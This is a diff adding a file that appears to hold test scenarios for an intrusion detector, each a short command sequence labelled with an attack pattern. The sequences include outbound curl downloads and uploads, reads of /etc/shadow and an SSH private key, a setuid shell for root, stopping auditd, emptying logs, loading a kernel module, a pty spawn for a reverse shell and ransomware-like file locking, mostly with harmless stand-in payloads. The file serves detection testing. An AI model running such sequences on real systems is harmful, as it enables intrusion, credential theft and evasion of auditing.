@@ -1,0 +1,54 @@
+## Shell of a server connects out
+server 'curl -s http://203.0.113.9/'
+## File written by a server, then run
+#setup mkdir -p /srv/up
+server 'cp /bin/true /srv/up/x'; /srv/up/x
+## Server's command looks around, then downloads
+server 'id; uname -a; curl -s http://10.9.8.7/'
+## Script put into a web folder, then a shell of the server
+#setup mkdir -p /var/www/html
+echo x > /var/www/html/s.php; server true
+## Downloaded script run
+#setup web
+curl -s -o /tmp/i.sh http://10.9.8.7:8000/true; bash /tmp/i.sh
+## Program in a scratch folder run, then removed
+cp /bin/true /tmp/x; /tmp/x; rm -f /tmp/x
+## Program in a scratch folder made executable, then run
+cat /bin/true > /tmp/x; chmod +x /tmp/x; /tmp/x
+## File in memory made, then run
+python3 -c '
+import os
+fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execve(fd, ["x"], {})'
+## Execution refused, then done another way
+echo true > /tmp/x; /tmp/x; sh /tmp/x
+## Set-user-id program made, then used
+cp /bin/bash /var/tmp/b; chmod 4755 /var/tmp/b; setpriv --reuid 1000 --clear-groups /var/tmp/b -p -c true
+## Raised to root, then a log emptied
+#setup mkdir /opt/y; cp /bin/bash /opt/y/bash; chmod 4755 /opt/y/bash; mkdir -p /var/log/nginx
+setpriv --reuid 1000 --clear-groups /opt/y/bash -p -c ': > /var/log/nginx/access.log; true'
+## Way to root looked for in all directions
+id; find /home -perm -4000; cat /etc/passwd
+## Key read, then a login elsewhere
+#setup mkdir -p /root/.ssh; echo k > /root/.ssh/id_ed25519
+cat /root/.ssh/id_ed25519; ssh -o BatchMode=yes 10.9.8.7
+## Secret read, then a connection to the internet
+cat /etc/shadow; curl -s http://203.0.113.9/
+## Archive made, then sent away
+tar cf /tmp/x.tar /etc/hosts; curl -s -T /tmp/x.tar http://10.9.8.7/
+## Guard stopped, then the kernel changed or a log emptied
+systemctl stop auditd; : > /var/log/auth.log
+## Module loaded, then its file removed
+: > /tmp/rk.ko; busybox insmod /tmp/rk.ko; rm -f /tmp/rk.ko
+## Reverse shell given a terminal
+remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
+## Downloaded program connects to a mining port
+#setup web
+curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
+## Services stopped, then files encrypted
+for n in mysql nginx docker; do systemctl stop $n; done; for n in $(seq 1 11); do : > /home/ann/$n.locked; done
+## Ports tried, then a login
+#setup listener 22
+python3 -c '
+import socket
+for port in list(range(30, 50)) + [22]:
+  s = socket.socket(); s.connect_ex(("10.9.8.7", port)); s.close()'
